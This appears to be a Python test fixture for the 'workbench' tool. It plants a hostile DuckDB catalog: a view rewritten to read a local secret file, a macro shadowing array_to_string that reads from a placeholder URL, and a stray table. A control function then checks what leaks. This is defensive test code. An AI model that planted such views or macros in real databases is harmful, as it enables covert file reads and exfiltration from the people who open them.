"""A catalog someone else prepared: wb's `comparison` view replaced by one that reads a local file, a macro that
shadows a DuckDB function wb's SQL uses and reads a URL, and a table wb does not know (issue 21, item 3)."""

from __future__ import annotations

from pathlib import Path

import duckdb

from workbench.catalog.schema import COMPARISON_VIEW

SECRET = "TOPSECRET-4242"
URL = "https://example.invalid/"
_OP_TYPE = "gn.type                                           AS golden_op_type"


def plant(catalog: Path, secret_file: Path) -> None:
    """Plant the views and macros in an existing wb catalog (written with DuckDB's defaults, as an attacker
    would); `secret_file` gets `SECRET`."""
    secret_file.write_text(SECRET + "\n")
    assert _OP_TYPE in COMPARISON_VIEW
    quoted = str(secret_file).replace("'", "''")
    con = duckdb.connect(str(catalog))
    try:
        con.execute(
            COMPARISON_VIEW.replace(_OP_TYPE, f"(SELECT content FROM read_text('{quoted}')) AS golden_op_type", 1)
        )
        # a macro body is bound only when used: created here without touching the network
        con.execute(f"CREATE MACRO array_to_string(a, b) AS (SELECT content FROM read_text('{URL}' || b))")
        con.execute("CREATE TABLE IF NOT EXISTS notes AS SELECT 'kept' AS note")
    finally:
        con.close()


def plant_works(catalog: Path, scratch: Path) -> tuple[str, str]:
    """The control, on a copy in `scratch`, with DuckDB's default access: what the planted `comparison` view gives
    (an error naming httpfs: the macro wants a download), and what it gives once the macro is gone (`SECRET`)."""
    import shutil

    copy = scratch / "control.duckdb"
    shutil.copyfile(catalog, copy)
    con = duckdb.connect(str(copy), config={"autoinstall_known_extensions": False})
    got: list[str] = []
    try:
        for step in range(2):
            if step:
                con.execute("DROP MACRO main.array_to_string")
            try:
                rows = con.execute("SELECT golden_op_type FROM comparison LIMIT 1").fetchall()
                got.append(str(rows[0][0]).strip() if rows else "")
            except duckdb.Error as exc:
                got.append(str(exc))
    finally:
        con.close()
        copy.unlink()
    return got[0], got[1]
